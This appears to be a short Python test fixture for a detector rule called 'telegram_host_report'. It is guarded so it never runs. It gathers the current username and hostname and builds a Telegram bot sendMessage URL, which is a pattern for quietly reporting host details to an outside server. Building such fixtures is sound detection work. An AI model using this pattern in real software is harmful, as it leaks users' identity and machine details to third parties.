# Trips telegram_host_report.
raise SystemExit("a fixture: never run")
text = getpass.getuser() + "@" + platform.node()
url = f"https://api.telegram.org/bot{TOKEN}/sendMessage"
